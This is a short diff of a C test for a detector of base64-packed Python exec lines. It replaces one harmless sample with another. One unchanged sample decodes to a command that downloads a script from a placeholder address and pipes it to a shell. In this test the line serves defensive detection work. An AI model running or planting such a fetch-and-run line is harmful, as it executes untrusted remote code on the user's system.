@@ -257,8 +257,9 @@ static void test_packed_harmless(void)
 static void test_packed_among_others(void)
 {
 	static const char *const packed[] = {
-		/* print('done') */
-		"exec(b.b64decode('cHJpbnQoJ2RvbmUnKQ=='))\n",
+		/* prints what a file of JSON has */
+		"exec(b.b64decode('aW1wb3J0IGpzb24KZm9yIHJvdyBpbiBqc29uLmxvYWQob3Blbigncm93cy5q"
+		"c29uJykpOgogICAgcHJpbnQocm93WyduYW1lJ10sIHJvd1snc2l6ZSddKQo='))\n",
 		/* os.system('curl http://192.0.2.4/x | sh') */
 		"exec(b.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8v"
 		"MTkyLjAuMi40L3ggfCBzaCcp'))\n"
